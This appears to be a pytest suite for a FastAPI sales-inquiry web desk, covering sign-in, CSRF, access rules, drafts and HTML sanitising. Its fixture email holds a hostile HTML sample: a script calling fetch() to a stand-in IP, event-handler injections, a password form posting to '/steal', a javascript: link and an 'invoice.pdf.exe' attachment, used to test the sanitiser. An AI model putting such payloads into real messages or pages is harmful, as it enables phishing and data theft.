"""The web desk through FastAPI's TestClient: sign-in, CSRF, who sees what, JSON twins,
"not spam", outcomes, the message sanitiser and the ``users`` command.

The archive is the bundled demo imported once per module into a temporary SQLite file.
"""

from __future__ import annotations

import re
from datetime import datetime, timedelta
from itertools import pairwise
from importlib import resources
from pathlib import Path

import pytest
import typer
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from inquirydesk import archive, cli_web
from inquirydesk.engine import Engine
from inquirydesk.model import RawItem
from inquirydesk.services import make_engine
from inquirydesk.settings import Settings
from inquirydesk.store import Store, desk
from inquirydesk.web import create_app
from inquirydesk.web.message import safe_message, sanitize

DEMO = Path(str(resources.files("inquirydesk") / "demo"))
HOSTILE = b"""From: Mallory <mallory@evil.example>
To: sales@hengxin-kitchenware.com
Subject: Hostile HTML test
Date: Mon, 02 Nov 2026 10:00:00 +0000
Message-ID: <hostile-1@evil.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/html; charset=utf-8

<html><head><style>body{background:url(http://198.51.100.7/css.png)}
@import url(http://198.51.100.7/x.css);</style>
<link rel="stylesheet" href="http://198.51.100.7/l.css">
<script>window.__pwned = 1; fetch("http://198.51.100.7/s");</script></head>
<body onload="window.__pwned = 2">
<p>We need 500 stockpots HX-SP101, please quote FOB.</p>
<img src="http://198.51.100.7/x.png" onerror="window.__pwned = 3">
<img src=x onerror="window.__pwned = 4">
<div style="background-image:url('http://198.51.100.7/div.png')">styled</div>
<form action="http://198.51.100.7/steal" method="post"><input name="password">
<button id="evil-submit">Log in</button></form>
<iframe src="http://198.51.100.7/frame"></iframe>
<svg onload="window.__pwned = 5"><image href="http://198.51.100.7/svg.png"/></svg>
<a href="javascript:window.__pwned=6" id="evil-link">click</a>
<object data="http://198.51.100.7/o.swf"></object>
<video poster="http://198.51.100.7/poster.png"></video>
</body></html>

--b1
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="invoice.pdf.exe"

MZfake
--b1--
"""


def seed(data_dir: Path) -> Settings:
    """The demo archive plus the hostile message; users and owners for the tests."""
    settings = Settings(data_dir=data_dir, seller=DEMO / "seller.yaml")
    archive.import_paths(settings, [DEMO], workers=1)
    engine: Engine = make_engine([DEMO])
    with Store.open(settings.database) as store:
        store.ingest([RawItem("hostile.eml", "file", data=HOSTILE)], engine, workers=1)
        desk.add_user(store, "boss", "boss-pw", role="manager", language="en")
        desk.add_user(store, "mandy", "mandy-pw", role="salesperson", display_name="Mandy")
        desk.add_user(store, "jason", "jason-pw", role="salesperson", language="en")
        for item in store.inbox(limit=100):
            if item.subject.startswith("Cotización"):
                store.update(item.id, owner="jason")
            elif item.subject.startswith("RE: Quotation"):
                store.update(item.id, owner="mandy")
    return settings


def find(store: Store, subject_start: str) -> int:
    items = store.inbox(limit=200) + store.inbox(risk=["spam", "phishing", "scam"], limit=200)
    return next(i.id for i in items if i.subject.startswith(subject_start))


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', html).group(1)


def sign_in(client: TestClient, name: str, password: str) -> str:
    token = csrf_of(client.get("/login").text)
    response = client.post("/login", data={"username": name, "password": password,
                                           "csrf": token})
    assert response.status_code == 200, response.text
    return csrf_of(response.text)


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    application = create_app(seed(tmp_path_factory.mktemp("desk")))
    yield application
    application.state.store.close()


@pytest.fixture
def store(app) -> Store:
    return app.state.store


@pytest.fixture
def client(app) -> TestClient:
    return TestClient(app)


def test_signing_in_opens_the_inbox_and_a_wrong_password_does_not(client) -> None:
    assert client.get("/inbox", follow_redirects=False).headers["location"] == "/login"
    assert client.get("/api/inbox").status_code == 401
    token = csrf_of(client.get("/login").text)
    bad = client.post("/login", data={"username": "boss", "password": "nope", "csrf": token})
    assert bad.status_code == 401
    sign_in(client, "boss", "boss-pw")
    page = client.get("/inbox")
    assert page.status_code == 200 and "Inbox" in page.text


def test_every_form_post_needs_the_sessions_csrf_token(client, store) -> None:
    assert client.post("/login", data={"username": "boss", "password": "boss-pw"}
                       ).status_code == 403
    token = sign_in(client, "boss", "boss-pw")
    spam = find(store, "Last 12 booths")
    assert client.post(f"/inquiries/{spam}/not-spam", data={"csrf": "forged"}
                       ).status_code == 403
    assert client.post(f"/api/inquiries/{spam}/not-spam").status_code == 403
    assert store.get(spam).item.risk == "spam"
    other = TestClient(client.app)  # another browser's token is no good here
    assert client.post("/logout", data={"csrf": csrf_of(other.get("/login").text)}
                       ).status_code == 403
    assert client.post("/logout", data={"csrf": token}).status_code == 200
    assert client.get("/api/inbox").status_code == 401


def test_salespeople_see_their_own_and_the_pool_managers_see_all(client, store) -> None:
    jasons, mandys = find(store, "Cotización"), find(store, "RE: Quotation")
    sign_in(client, "mandy", "mandy-pw")
    ids = [i["id"] for i in client.get("/api/inbox").json()["items"]]
    assert mandys in ids and jasons not in ids
    owners = {i["owner"] for i in client.get("/api/inbox").json()["items"]}
    assert owners == {"mandy", ""}
    assert client.get(f"/inquiries/{jasons}").status_code == 403
    assert client.get(f"/api/inquiries/{jasons}").status_code == 403
    assert client.get("/api/inbox?owner=jason").json()["count"] == 0
    assert client.get(f"/inquiries/{mandys}").status_code == 200
    boss = TestClient(client.app)
    sign_in(boss, "boss", "boss-pw")
    ids = [i["id"] for i in boss.get("/api/inbox").json()["items"]]
    assert {mandys, jasons} <= set(ids)
    assert boss.get("/api/inbox?owner=jason").json()["count"] == 1


def test_each_page_and_its_json_twin_come_from_the_same_call(client, store) -> None:
    sign_in(client, "boss", "boss-pw")
    for path in ("/inbox", "/risky", "/inbox?grade=A", "/inbox?country=de",
                 "/inbox?q=汤锅", "/risky?risk=phishing"):
        html = client.get(path).text
        twin = client.get("/api" + path).json()
        linked = [int(n) for n in re.findall(r'href="/inquiries/(\d+)"', html)]
        assert linked == [i["id"] for i in twin["items"]], path
    chinese = client.get("/api/inbox?q=汤锅").json()["items"]
    assert [i["language"] for i in chinese] == ["zh"]
    grades = [i["grade"] for i in client.get("/api/inbox").json()["items"]]
    assert grades == sorted(grades)
    assert all(i["risk"] == "none" for i in client.get("/api/inbox").json()["items"])
    assert {i["risk"] for i in client.get("/api/risky").json()["items"]} == {
        "spam", "phishing", "scam"}


def test_the_inquiry_twin_explains_the_grade(client, store) -> None:
    sign_in(client, "boss", "boss-pw")
    found = find(store, "RE: Quotation")
    data = client.get(f"/api/inquiries/{found}").json()
    table = data["table1"]
    assert [r["item"] for r in table["items"]] == ["identity", "product", "detail", "terms",
                                                   "engagement"]
    assert table["grade"] == "A" and table["factor"] == 1.0 and table["total"] > 0
    assert all({"rule", "reason"} <= set(e) for e in data["evidence"])
    assert any(e.get("quote") for e in data["evidence"])
    assert data["buyer"]["country"] == "AU" and data["buyer"]["local_time_now"]
    assert data["draft"]["text"] and data["plan"]["strategy"]
    page = client.get(f"/inquiries/{found}").text
    for e in data["evidence"]:
        assert e["rule"] in page
    assert 'id="draft"' in page


def test_not_spam_restores_a_risky_inquiry_to_the_inbox(client, store) -> None:
    token = sign_in(client, "boss", "boss-pw")
    spam = find(store, "Sea freight Nansha")
    assert spam not in [i["id"] for i in client.get("/api/inbox").json()["items"]]
    restored = client.post(f"/api/inquiries/{spam}/not-spam", headers={"X-CSRF-Token": token})
    assert restored.status_code == 200 and restored.json()["risk"] == "none"
    assert spam in [i["id"] for i in client.get("/api/inbox").json()["items"]]
    assert spam not in [i["id"] for i in client.get("/api/risky").json()["items"]]
    assert store.get(spam) is not None  # kept, never deleted


def test_outcomes_close_the_inquiry_and_lost_needs_a_reason(client, store) -> None:
    token = sign_in(client, "mandy", "mandy-pw")
    found = find(store, "RE: Quotation")
    lost = client.post(f"/inquiries/{found}/outcome", data={"csrf": token, "result": "lost"})
    assert lost.status_code == 400
    won = client.post(f"/inquiries/{found}/outcome", data={"csrf": token, "result": "won"})
    assert won.status_code == 200 and store.get(found).item.status == "closed"


def test_api_tokens_work_without_cookies_or_csrf(app, store) -> None:
    token = desk.add_token(store, "jason", "website form")
    machine = TestClient(app)
    headers = {"Authorization": f"Bearer {token}"}
    assert machine.get("/api/inbox", headers=headers).json()["count"] > 0
    assert machine.get("/api/inbox", headers={"Authorization": "Bearer wrong"}
                       ).status_code == 401
    found = find(store, "Cotización")
    assert machine.post(f"/api/inquiries/{found}/outcome", headers=headers,
                        json={"result": "no_answer"}).status_code == 200


def test_pages_speak_chinese_by_default_and_english_when_asked(client) -> None:
    token = sign_in(client, "mandy", "mandy-pw")
    assert "收件箱" in client.get("/inbox").text
    switched = client.post("/language", data={"csrf": token, "lang": "en", "back": "/inbox"})
    assert "Inbox" in switched.text and "收件箱" not in switched.text
    again = TestClient(client.app)
    sign_in(again, "mandy", "mandy-pw")  # the choice is kept for the user
    assert "Inbox" in again.get("/inbox").text
    client.post("/language", data={"csrf": token, "lang": "zh"})


def test_hostile_html_is_defused_and_served_under_a_strict_policy(client, store) -> None:
    sign_in(client, "boss", "boss-pw")
    found = find(store, "Hostile HTML")
    page = client.get(f"/inquiries/{found}")
    csp = page.headers["content-security-policy"]
    assert "default-src 'self'" in csp and "img-src 'self' data:;" in csp
    body = page.text.split('id="message">', 1)[1].split("</article>", 1)[0]
    for bad in ("<script", "onerror", "onload", "<form", "<iframe", "198.51.100.7", "style=",
                "javascript:", "<object", "<svg", "<link"):
        assert bad not in body, bad
    assert "stockpots" in body and "invoice.pdf.exe" in page.text and "Warning" in page.text
    download = client.get(f"/inquiries/{found}/attachments/0")
    assert download.headers["content-disposition"].startswith("attachment")
    assert download.headers["content-type"] == "application/octet-stream"


def test_the_sanitiser_keeps_remote_images_out_unless_asked() -> None:
    html, remote = sanitize('<img src="https://img.example/a.png"><img src="data:image/png;base64,AA">')
    assert remote == 1 and "img.example" not in html and "data:image/png" in html
    shown, _ = sanitize('<img src="https://img.example/a.png">', show_images=True)
    assert "https://img.example/a.png" in shown
    plain = safe_message(None, "<b>not html</b>")
    assert "&lt;b&gt;" in plain.html


def test_users_add_makes_a_user_who_can_sign_in(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("INQUIRYDESK_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("INQUIRYDESK_CONFIG", str(tmp_path / "none.yaml"))
    app = typer.Typer()
    cli_web.register(app)
    runner = CliRunner()
    result = runner.invoke(app, ["users", "add", "sunny", "--role", "manager",
                                 "--password", "s3cret"])
    assert result.exit_code == 0, result.output
    bad = runner.invoke(app, ["users", "add", "x", "--role", "boss", "--password", "p"])
    assert bad.exit_code == 2
    with Store.open(Settings(data_dir=tmp_path).database) as store:
        assert desk.authenticate(store, "sunny", "s3cret").role == "manager"
        assert desk.authenticate(store, "sunny", "wrong") is None
    assert "sunny" in runner.invoke(app, ["users", "list"]).output


def test_the_inbox_puts_the_reply_due_first_and_pages(client, store) -> None:
    sign_in(client, "boss", "boss-pw")
    data = client.get("/api/inbox").json()
    items = data["items"]
    assert data["filters"]["status"] == "new" and {i["status"] for i in items} == {"new"}
    for a, b in pairwise(items):
        if a["grade"] == b["grade"]:
            assert a["received_at"] <= b["received_at"]  # the longest waiting is due first
    for i in items:
        hours = 6 if i["grade"] in "AB" else 24
        received = datetime.fromisoformat(i["received_at"])
        assert datetime.fromisoformat(i["due"]["at"]) == received + timedelta(hours=hours)
    everything = client.get("/api/inbox?status=all").json()
    assert everything["count"] >= data["count"] and not everything["more"]
    assert client.get("/api/inbox?page=2").json()["items"] == []
    bad = client.get("/api/inbox?status=maybe")
    assert bad.status_code == 400 and "status" in bad.json()["error"]
    assert client.get("/api/inbox?page=x").status_code == 400
    assert "overdue" in client.get("/inbox").text  # the demo's inquiries are weeks old


def test_an_edited_draft_is_kept_until_reset(client, store) -> None:
    token = sign_in(client, "mandy", "mandy-pw")
    found = find(store, "Private label cookware")
    headers = {"X-CSRF-Token": token}
    planned = client.get(f"/api/inquiries/{found}").json()["draft"]["text"]
    saved = client.put(f"/api/inquiries/{found}/draft", headers=headers,
                       json={"subject": "Re: your inquiry", "text": "Dear buyer, 报价见附件"})
    assert saved.status_code == 200 and saved.json()["by"] == "mandy"
    data = client.get(f"/api/inquiries/{found}").json()
    assert data["edited_draft"]["text"] == "Dear buyer, 报价见附件"
    assert data["draft"]["text"] == planned  # the plan's draft is still there to go back to
    assert "报价见附件" in client.get(f"/inquiries/{found}").text
    empty = client.put(f"/api/inquiries/{found}/draft", headers=headers, json={"text": ""})
    assert empty.status_code == 422 and "text" in empty.json()["error"]
    assert client.put(f"/api/inquiries/{found}/draft", json={"text": "x"}).status_code == 403
    reset = client.post(f"/inquiries/{found}/draft", data={"csrf": token, "action": "reset"})
    assert reset.status_code == 200
    assert client.get(f"/api/inquiries/{found}").json()["edited_draft"] is None
    jasons = find(store, "Cotización")
    assert client.put(f"/api/inquiries/{jasons}/draft", headers=headers,
                      json={"text": "mine now"}).status_code == 403


def test_marking_replied_records_it_and_starts_the_follow_ups(client, store) -> None:
    token = sign_in(client, "boss", "boss-pw")
    found = find(store, "Primeira importação")
    done = client.post(f"/api/inquiries/{found}/replied", headers={"X-CSRF-Token": token})
    assert done.status_code == 200 and done.json()["status"] == "replied"
    events = client.get(f"/api/inquiries/{found}").json()["events"]
    assert [e["kind"] for e in events][-1] == "replied" and events[-1]["by"] == "boss"
    assert found not in [i["id"] for i in client.get("/api/inbox").json()["items"]]
    assert found in [i["id"] for i in client.get("/api/inbox?status=replied").json()["items"]]
